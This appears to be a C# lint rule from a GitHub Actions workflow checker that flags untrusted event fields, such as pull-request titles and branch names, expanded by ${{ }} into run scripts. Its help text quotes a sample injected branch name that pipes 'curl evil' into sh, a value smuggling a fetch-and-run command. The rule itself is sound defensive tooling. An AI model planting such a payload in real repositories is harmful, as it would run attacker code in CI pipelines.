using System.Text.RegularExpressions;
using Reconciler.Core.Policy;
using Reconciler.Core.Workflows;
using Reconciler.Core.Yaml;

namespace Reconciler.Core.Rules;

/// <summary>Report: attacker-controlled <c>${{ }}</c> values expanded into a script.</summary>
public sealed partial class TemplateInjectionRule : IWorkflowRule, IActionFileRule
{
    public string Id => "template-injection";

    public string Title => "Untrusted event fields are not expanded into scripts";

    public string Help =>
        "`${{ }}` is pasted into the script before the shell runs it, so a pull-request title or branch name like " +
        "`a\"; curl evil | sh #` becomes code. Pass the value through `env:` and use `\"$TITLE\"` in the script instead.";

    public Severity DefaultSeverity => Severity.Error;

    [GeneratedRegex(@"\$\{\{(?<expr>[^}]*)\}\}", RegexOptions.NonBacktracking)]
    private static partial Regex Expression();

    [GeneratedRegex(@"github\.head_ref|github\.event\.(?!repository\.|inputs\.)[\w.\[\]*']*?\b(title|body|message|name|email|label|ref|head_ref|head_branch|page_name|default_branch)\b", RegexOptions.None, matchTimeoutMilliseconds: Planning.PlanningLimits.RegexTimeoutMilliseconds)]
    private static partial Regex Untrusted();

    public void Check(WorkflowContext context)
    {
        foreach (var job in context.Workflow.Jobs)
        {
            foreach (var step in job.Steps)
            {
                CheckStep(context, $"job {job.Id}, {step.Label}", step);
            }
        }
    }

    /// <summary>A composite action's <c>run:</c> is expanded the same way, with the caller's event.</summary>
    public void Check(ActionFileContext context)
    {
        foreach (var step in context.Action.Steps)
        {
            CheckStep(context, step.Label, step);
        }
    }

    private static void CheckStep(FileContext context, string where, Step step)
    {
        var script = step.Map?["run"] as YScalar
            ?? (step.Uses?.StartsWith("actions/github-script@", StringComparison.OrdinalIgnoreCase) == true ? step.With?["script"] as YScalar : null);
        if (script is null)
        {
            return;
        }

        var source = context.File.Document.Source;
        var text = context.Editor.TextOf(script);
        foreach (Match m in Expression().Matches(text))
        {
            if (Untrusted().Match(m.Groups["expr"].Value) is { Success: true } field)
            {
                var offset = script.Start.Offset + m.Index;
                var line = source.LineOf(offset);
                context.ReportAt(line, offset - source.LineStart(line) + 1, $"{where}: `{m.Value.Trim()}` expands `{field.Value}`, which whoever opens the pull request or issue controls, into the script; pass it through `env:` instead");
            }
        }
    }
}
